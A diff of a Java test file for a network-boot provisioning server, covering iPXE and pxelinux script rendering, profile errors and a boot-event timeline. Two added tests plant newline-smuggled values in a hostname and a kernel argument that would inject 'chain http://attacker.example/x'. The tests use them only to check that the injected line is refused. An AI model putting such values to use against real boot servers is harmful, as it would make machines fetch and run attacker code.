@@ -2,12 +2,17 @@ package dev.provisioner.server.core;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.provisioner.server.core.timeline.ArtifactKind;
+import dev.provisioner.server.core.timeline.BootEvent;
+import dev.provisioner.server.core.timeline.Outcome;
+import dev.provisioner.server.core.timeline.RecentTimeline;
+import dev.provisioner.server.core.timeline.Transport;
 import dev.provisioner.server.render.IgnitionConfigRenderer;
-import dev.provisioner.server.render.BootLoaderRenderer;
+import dev.provisioner.server.render.IpxeScripts;
+import dev.provisioner.server.render.PxelinuxConfigs;
 import dev.provisioner.server.render.SwarmUnits;
 import dev.provisioner.server.render.TemplateEngine;
-import dev.provisioner.server.store.FileMachineStore;
-import dev.provisioner.server.store.FileProfileCatalog;
+import dev.provisioner.server.store.MemoryMachineStore;
 import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -15,98 +20,118 @@ import java.time.Clock;
 import java.time.Duration;
 import java.time.Instant;
 import java.time.ZoneOffset;
+import java.util.Arrays;
+import java.util.List;
 import java.util.Map;
 import java.util.Optional;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** The boot path with the real file stores and the real templates built into the jar. */
+/** The boot path on the in-memory store, with the real templates built into the jar. */
 class BootServiceTest {
 
     private static final URI BASE = URI.create("http://boot.example:8080/");
     private static final MacAddress MAC = MacAddress.parse("52:54:00:12:34:56").orElseThrow();
-    private static final SwarmUnits SWARM_UNITS = new SwarmUnits(TemplateEngine.withBuiltIns(Optional.empty()));
+    private static final TemplateEngine TEMPLATES = TemplateEngine.withBuiltIns(Optional.empty());
+    private static final IpxeScripts IPXE = new IpxeScripts(TEMPLATES, Duration.ofSeconds(7));
+    private static final PxelinuxConfigs PXELINUX = PxelinuxConfigs.perMachine(TEMPLATES, Duration.ofSeconds(7));
+    private static final PxelinuxConfigs PXELINUX_DEFAULT = PxelinuxConfigs.fallback(TEMPLATES, Duration.ofSeconds(7));
 
     @TempDir
     Path data;
 
-    private FileMachineStore machines;
-    private FileProfileCatalog profiles;
-    private BootEventLog events;
-
-    @BeforeEach
-    void dataDirectory() throws Exception {
-        Files.createDirectories(data.resolve("profiles"));
-        Files.writeString(data.resolve("profiles/worker.yaml"), """
-                boot:
-                  kernel: flatcar/vmlinuz
-                  initrds: [flatcar/image.cpio.gz, oem/oem.cpio.gz]
-                  args: [flatcar.first_boot=1, console=ttyS0]
-                """);
-        Files.writeString(data.resolve("profiles/broken.yaml"), "boot:\n  kernal: x\n");
-        machines = new FileMachineStore(data);
-        profiles = new FileProfileCatalog(data);
-        profiles.refresh();
-        events = new BootEventLog(10, 10);
-    }
+    private final MemoryMachineStore machines = new MemoryMachineStore();
+    private final FixedProfiles profiles = new FixedProfiles()
+            .add(new Profile("worker", new BootSpec("flatcar/vmlinuz", List.of("flatcar/image.cpio.gz", "extra/more.cpio.gz"),
+                    List.of("flatcar.first_boot=1", "console=ttyS0")), Optional.empty()))
+            .broken("broken", new Problem("profiles/broken.yaml", 2, 3, "unknown key 'boot.kernal'; did you mean 'kernel'?"));
+    private final RecentTimeline timeline = new RecentTimeline(10, 10);
 
     private BootService service(Optional<String> defaultProfile) {
-        return new BootService(machines, profiles, new BootLoaderRenderer(TemplateEngine.withBuiltIns(Optional.empty()), Duration.ofSeconds(7)),
-                new IgnitionConfigRenderer(data, SwarmSource.NONE, SWARM_UNITS), events, SwarmSource.NONE, defaultProfile, Clock.fixed(Instant.parse("2026-11-22T10:00:00Z"), ZoneOffset.UTC));
+        return new BootService(machines, profiles, new IgnitionConfigRenderer(data, SwarmSource.NONE, new SwarmUnits(TEMPLATES)),
+                timeline, defaultProfile, Clock.fixed(Instant.parse("2026-11-22T10:00:00Z"), ZoneOffset.UTC));
     }
 
-    private static MachineKey key(String mac) {
-        return MachineKey.reported(mac, "12345678-9abc-def0-1234-56789abcdef0", "SER1", "x86_64", "pcbios", "10.0.2.15");
+    private static MachineIdentity who(String mac) {
+        return MachineIdentity.reported(mac, "10.0.2.15")
+                .withFirmware("12345678-9abc-def0-1234-56789abcdef0", "SER1", "x86_64", "pcbios");
+    }
+
+    private String ipxe(Optional<String> defaultProfile) {
+        return service(defaultProfile).answer(who("52-54-00-12-34-56"), Transport.HTTP, BASE, IPXE);
     }
 
     @Test
     void aRegisteredMachineGetsItsProfilesKernelInitrdsAndArgs() {
         machines.create(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()));
-        String script = service(Optional.empty()).ipxeScript(key("52-54-00-12-34-56"), BASE);
+        String script = ipxe(Optional.empty());
         assertThat(script).startsWith("#!ipxe\n").contains(
                 "kernel --name vmlinuz http://boot.example:8080/assets/flatcar/vmlinuz?mac=52-54-00-12-34-56"
-                        + " initrd=image.cpio.gz initrd=oem.cpio.gz flatcar.first_boot=1 console=ttyS0 || goto failed\n",
+                        + " initrd=image.cpio.gz initrd=more.cpio.gz flatcar.first_boot=1 console=ttyS0 || goto failed\n",
                 "initrd --name image.cpio.gz http://boot.example:8080/assets/flatcar/image.cpio.gz?mac=52-54-00-12-34-56 || goto failed\n",
-                "initrd --name oem.cpio.gz http://boot.example:8080/assets/oem/oem.cpio.gz?mac=52-54-00-12-34-56 || goto failed\n",
+                "initrd --name more.cpio.gz http://boot.example:8080/assets/extra/more.cpio.gz?mac=52-54-00-12-34-56 || goto failed\n",
                 "boot || goto failed\n",
                 "(worker-01)");
-        assertThat(script.indexOf("initrd --name image")).isLessThan(script.indexOf("initrd --name oem"));
-        assertThat(events.of(MAC)).singleElement().satisfies(event -> {
-            assertThat(event.uuid()).isEqualTo("12345678-9abc-def0-1234-56789abcdef0");
-            assertThat(event.serial()).isEqualTo("SER1");
-            assertThat(event.served()).isEqualTo("ipxe script");
-            assertThat(event.detail()).isEqualTo("profile worker");
-            assertThat(event.sourceAddress()).isEqualTo("10.0.2.15");
+        assertThat(script.indexOf("initrd --name image")).isLessThan(script.indexOf("initrd --name more"));
+        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
+            assertThat(event.machine().uuid()).isEqualTo("12345678-9abc-def0-1234-56789abcdef0");
+            assertThat(event.machine().serial()).isEqualTo("SER1");
+            assertThat(event.kind()).isEqualTo(ArtifactKind.IPXE_SCRIPT);
+            assertThat(event.transport()).isEqualTo(Transport.HTTP);
+            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
+            assertThat(event.artifact()).isEqualTo("worker");
+            assertThat(event.machine().source()).isEqualTo("10.0.2.15");
+            assertThat(event.time()).isEqualTo(Instant.parse("2026-11-22T10:00:00Z"));
+        });
+    }
+
+    @Test
+    void pxelinuxGetsTheSameDecisionWithTftpNamesThatCarryTheMachine() {
+        machines.create(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()));
+        Optional<String> config = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX);
+        assertThat(config).hasValueSatisfying(text -> assertThat(text).contains(
+                "KERNEL flatcar/vmlinuz?mac=52-54-00-12-34-56\n",
+                "APPEND initrd=flatcar/image.cpio.gz?mac=52-54-00-12-34-56,extra/more.cpio.gz?mac=52-54-00-12-34-56 "
+                        + "flatcar.first_boot=1 console=ttyS0\n"));
+        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
+            assertThat(event.kind()).isEqualTo(ArtifactKind.PXELINUX_CONFIG);
+            assertThat(event.transport()).isEqualTo(Transport.TFTP);
+            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
         });
     }
 
     @Test
     void anUnknownMachineIsToldOnItsConsoleAndRetries() {
-        String script = service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE);
+        String script = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE, IPXE);
         assertThat(script).contains("echo Provisioner: machine 52:54:00:12:34:56 is not registered\n", "sleep 7\n",
                 "chain --replace --autofree http://boot.example:8080/ipxe?mac=${mac:hexhyp}&uuid=${uuid}")
                 .doesNotContain("kernel ");
-        assertThat(events.of(MAC)).singleElement().extracting(BootEvent::served).isEqualTo("refusal: not registered");
+        assertThat(timeline.of(MAC)).singleElement().extracting(BootEvent::outcome).isEqualTo(Outcome.NOT_REGISTERED);
+        // pxelinux gets nothing, so it goes on to its other names at once
+        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX)).isEmpty();
     }
 
     @Test
     void anUnknownMachineBootsTheDefaultProfileWhenOneIsConfigured() {
-        String script = service(Optional.of("worker")).ipxeScript(key("525400123456"), BASE);
+        String script = ipxe(Optional.of("worker"));
         assertThat(script).contains("kernel --name vmlinuz", "with profile worker");
-        assertThat(events.of(MAC)).singleElement().extracting(BootEvent::detail)
-                .isEqualTo("profile worker (default profile, machine not registered)");
+        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
+            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
+            assertThat(event.detail()).isEqualTo("default profile, machine not registered");
+        });
     }
 
     @Test
     void pxelinuxDefaultIsRenderedFromTheDefaultProfileOnlyWhenThereIsOne() {
-        MachineKey nobody = MachineKey.reported(null, null, null, null, "pxe", "10.0.2.15");
-        assertThat(service(Optional.empty()).pxelinuxDefault(nobody)).isEmpty();
-        assertThat(service(Optional.of("worker")).pxelinuxDefault(nobody)).hasValueSatisfying(config -> assertThat(config)
+        MachineIdentity nobody = MachineIdentity.reported(null, "10.0.2.15");
+        assertThat(service(Optional.empty()).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT)).isEmpty();
+        assertThat(service(Optional.of("worker")).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT).flatMap(c -> c))
+                .hasValueSatisfying(config -> assertThat(config)
                 .contains("SAY Provisioner: booting an unregistered machine with profile worker\n",
                         "KERNEL flatcar/vmlinuz\n",
-                        "APPEND initrd=flatcar/image.cpio.gz,oem/oem.cpio.gz flatcar.first_boot=1 console=ttyS0\n"));
-        assertThat(service(Optional.of("broken")).pxelinuxDefault(nobody)).hasValueSatisfying(config -> assertThat(config)
+                        "APPEND initrd=flatcar/image.cpio.gz,extra/more.cpio.gz flatcar.first_boot=1 console=ttyS0\n"));
+        assertThat(service(Optional.of("broken")).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT).flatMap(c -> c))
+                .hasValueSatisfying(config -> assertThat(config)
                 .contains("SAY Provisioner: the default profile broken cannot boot: profiles/broken.yaml:2:3: unknown key 'boot.kernal'",
                         "COM32 reboot.c32")
                 .doesNotContain("KERNEL"));
@@ -115,9 +140,12 @@ class BootServiceTest {
     @Test
     void aBrokenProfileIsExplainedOnTheConsoleWithFileLineAndColumn() {
         machines.create(new Machine(MAC, null, "broken", Map.of(), Map.of()));
-        String script = service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE);
-        assertThat(script).contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: profile broken: "
+        assertThat(ipxe(Optional.empty())).contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: profile broken: "
                 + "profiles/broken.yaml:2:3: unknown key 'boot.kernal'; did you mean 'kernel'?").doesNotContain("kernel --name");
+        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
+            assertThat(event.outcome()).isEqualTo(Outcome.REFUSED);
+            assertThat(event.artifact()).isEqualTo("broken");
+        });
     }
 
     @Test
@@ -126,13 +154,34 @@ class BootServiceTest {
         Files.createDirectories(templates);
         Files.writeString(templates.resolve("boot.ipxe.ftl"), "#!ipxe\nkernel [=kernel.nosuchfield]\n");
         machines.create(new Machine(MAC, null, "worker", Map.of(), Map.of()));
-        BootService service = new BootService(machines, profiles,
-                new BootLoaderRenderer(TemplateEngine.withBuiltIns(Optional.of(data.resolve("templates"))), Duration.ofSeconds(7)),
-                new IgnitionConfigRenderer(data, SwarmSource.NONE, SWARM_UNITS), events, SwarmSource.NONE, Optional.empty(),
-                Clock.systemUTC());
-        assertThat(service.ipxeScript(key("52:54:00:12:34:56"), BASE))
+        IpxeScripts broken = new IpxeScripts(TemplateEngine.withBuiltIns(Optional.of(data.resolve("templates"))), Duration.ofSeconds(7));
+        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE, broken))
                 .contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: ipxe/boot.ipxe.ftl line 2 column 10:");
-        assertThat(events.of(MAC)).singleElement().extracting(BootEvent::served).isEqualTo("refusal: broken template");
+        assertThat(timeline.of(MAC)).singleElement().extracting(BootEvent::outcome).isEqualTo(Outcome.REFUSED);
+    }
+
+    @Test
+    void aHostnameThatSomeStoreLetThroughCannotAddACommandToTheScript() {
+        // the rules keep this out of every store; the renderer is the second wall
+        machines.create(new Machine(MAC, "evil\nchain http://attacker.example/x", "worker", Map.of(), Map.of()));
+        String script = ipxe(Optional.empty());
+        assertThat(script).contains("kernel --name vmlinuz");
+        assertThat(Arrays.stream(script.split("\n")).map(String::strip))
+                .noneMatch(line -> line.startsWith("chain http://attacker"));
+        String pxelinux = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX).orElseThrow();
+        assertThat(Arrays.stream(pxelinux.split("\n")).map(String::strip))
+                .noneMatch(line -> line.startsWith("chain http://attacker"));
+    }
+
+    @Test
+    void aKernelArgumentThatWouldStartANewCommandIsRefusedNotBooted() {
+        profiles.add(new Profile("sneaky", new BootSpec("flatcar/vmlinuz", List.of(),
+                List.of("console=ttyS0\nchain http://attacker.example/x")), Optional.empty()));
+        machines.create(new Machine(MAC, null, "sneaky", Map.of(), Map.of()));
+        String script = ipxe(Optional.empty());
+        assertThat(script).contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: kernel argument")
+                .doesNotContain("kernel --name");
+        assertThat(Arrays.stream(script.split("\n"))).noneMatch(line -> line.startsWith("chain http://attacker"));
     }
 
     @Test
@@ -140,61 +189,91 @@ class BootServiceTest {
         Files.createDirectories(data.resolve("configs"));
         Files.writeString(data.resolve("configs/node.yaml"), "storage:\n  files:\n    - path: /etc/hostname\n"
                 + "      contents:\n        inline: [=machine.hostname]\n");
-        Files.writeString(data.resolve("profiles/ignited.yaml"),
-                "boot:\n  kernel: flatcar/vmlinuz\n  initrds: [flatcar/image.cpio.gz]\n  args: [console=ttyS0]\nconfig: node.yaml\n");
-        Files.writeString(data.resolve("profiles/legacy.yaml"), "boot:\n  kernel: flatcar/vmlinuz\n  args: [coreos.first_boot=1]\n"
-                + "config: node.yaml\nignition: 2.3.0\n");
-        profiles.refresh();
+        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of("flatcar/image.cpio.gz"),
+                List.of("console=ttyS0")), Optional.of("node.yaml")));
+        profiles.add(new Profile("legacy", new BootSpec("flatcar/vmlinuz", List.of(), List.of("coreos.first_boot=1")),
+                Optional.of("node.yaml"), "2.3.0", OemFormat.FLATCAR, Optional.empty()));
         machines.create(new Machine(MAC, "n1", "ignited", Map.of(), Map.of()));
-        String script = service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE);
+        String script = ipxe(Optional.empty());
         assertThat(script).contains(
                 " initrd=image.cpio.gz initrd=oem.cpio.gz console=ttyS0 flatcar.first_boot=1 || goto failed",
                 "initrd --name oem.cpio.gz http://boot.example:8080/oem/52-54-00-12-34-56.cpio.gz || goto failed");
         assertThat(script.indexOf("initrd --name image")).isLessThan(script.indexOf("initrd --name oem"));
+        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX).orElseThrow())
+                .contains("APPEND initrd=flatcar/image.cpio.gz?mac=52-54-00-12-34-56,oem/52-54-00-12-34-56.cpio.gz ");
 
         machines.put(new Machine(MAC, "n1", "legacy", Map.of(), Map.of()));
-        assertThat(service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE))
+        assertThat(ipxe(Optional.empty()))
                 .contains(" initrd=oem.cpio.gz coreos.first_boot=1 coreos.config.url=oem:///config.ign || goto failed");
 
         machines.put(new Machine(MAC, null, "ignited", Map.of(), Map.of()));
-        assertThat(service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE))
+        assertThat(ipxe(Optional.empty()))
                 .contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: configs/node.yaml:5:")
                 .doesNotContain("kernel --name");
     }
 
     @Test
-    void anUnregisteredMachineOnTheDefaultProfileGetsNoConfig() throws Exception {
-        Files.writeString(data.resolve("profiles/ignited.yaml"), "boot:\n  kernel: flatcar/vmlinuz\nconfig: node.yaml\n");
-        profiles.refresh();
-        assertThat(service(Optional.of("ignited")).ipxeScript(key("52:54:00:12:34:56"), BASE))
-                .contains("kernel --name vmlinuz").doesNotContain("oem.cpio.gz", "first_boot");
+    void anArchiveAskedForUnderTheWrongSuffixIsRefusedBeforeAnythingIsRecorded() throws Exception {
+        Files.createDirectories(data.resolve("configs"));
+        Files.writeString(data.resolve("configs/node.yaml"), "passwd: {}\n");
+        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of(), List.of()), Optional.of("node.yaml")));
+        machines.create(new Machine(MAC, "n1", "ignited", Map.of(), Map.of()));
+        BootService service = service(Optional.empty());
+        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FCOS, Transport.HTTP, BASE))
+                .isEqualTo(new ConfigOutcome.WrongName("oem/52-54-00-12-34-56.cpio.gz"));
+        assertThat(timeline.of(MAC)).isEmpty();
+        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FLATCAR, Transport.TFTP, BASE))
+                .isInstanceOf(ConfigOutcome.Ready.class);
+        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
+            assertThat(event.kind()).isEqualTo(ArtifactKind.OEM_ARCHIVE);
+            assertThat(event.transport()).isEqualTo(Transport.TFTP);
+            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
+        });
+    }
+
+    @Test
+    void anUnregisteredMachineOnTheDefaultProfileGetsNoConfig() {
+        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of(), List.of()), Optional.of("node.yaml")));
+        assertThat(ipxe(Optional.of("ignited"))).contains("kernel --name vmlinuz").doesNotContain("oem.cpio.gz", "first_boot");
+        assertThat(service(Optional.of("ignited")).ignition(who("52:54:00:12:34:56"), Transport.HTTP, BASE))
+                .isInstanceOf(ConfigOutcome.NotRegistered.class);
     }
 
     @Test
     void aMissingProfileIsExplainedToo() {
         machines.create(new Machine(MAC, null, "gone", Map.of(), Map.of()));
-        assertThat(service(Optional.empty()).ipxeScript(key("52:54:00:12:34:56"), BASE))
-                .contains("profile gone: no profile 'gone' in the data directory");
+        assertThat(ipxe(Optional.empty())).contains("profile gone: no profile 'gone' in the data directory");
     }
 
     @Test
     void aRequestWithoutAValidMacIsRefusedWithTheReason() {
-        assertThat(service(Optional.empty()).ipxeScript(key("not-a-mac"), BASE))
+        assertThat(service(Optional.empty()).answer(who("not-a-mac"), Transport.HTTP, BASE, IPXE))
                 .contains("echo Provisioner: the request carries no valid MAC address");
     }
 
     @Test
+    void assetDownloadsLandInTheTimelineWhateverTheTransport() {
+        BootService service = service(Optional.empty());
+        service.assetServed(MachineIdentity.of(MAC, "10.0.2.15"), Transport.TFTP, "flatcar/vmlinuz", true);
+        service.assetServed(MachineIdentity.of(MAC, "10.0.2.15"), Transport.HTTP, "flatcar/gone", false);
+        assertThat(timeline.of(MAC)).extracting(BootEvent::kind, BootEvent::transport, BootEvent::outcome, BootEvent::artifact)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple(ArtifactKind.ASSET, Transport.TFTP, Outcome.SERVED, "flatcar/vmlinuz"),
+                        org.assertj.core.groups.Tuple.tuple(ArtifactKind.ASSET, Transport.HTTP, Outcome.MISSING, "flatcar/gone"));
+    }
+
+    @Test
     void theChainScriptUsesTheBaseUrlAndLeavesIpxeSettingsAlone() {
-        assertThat(service(Optional.empty()).ipxeChainScript(BASE)).startsWith("#!ipxe\n").contains(
+        assertThat(IPXE.chain(BASE)).startsWith("#!ipxe\n").contains(
                 "chain --replace --autofree http://boot.example:8080/ipxe?mac=${mac:hexhyp}&uuid=${uuid}"
                         + "&serial=${serial:uristring}&arch=${buildarch}&platform=${platform} || goto failed");
     }
 
     @Test
     void untrustedRequestFieldsAreBoundedAndCleaned() {
-        MachineKey key = MachineKey.reported("52:54:00:12:34:56", "x".repeat(500), "a\nb\u0000c", " ", null, null);
-        assertThat(key.uuid()).hasSize(128);
-        assertThat(key.serial()).isEqualTo("a?b?c");
-        assertThat(key.arch()).isNull();
+        MachineIdentity who = MachineIdentity.reported("52:54:00:12:34:56", null).withFirmware("x".repeat(500), "a\nb\u0000c", " ", null);
+        assertThat(who.uuid()).hasSize(128);
+        assertThat(who.serial()).isEqualTo("a?b?c");
+        assertThat(who.arch()).isNull();
     }
 }
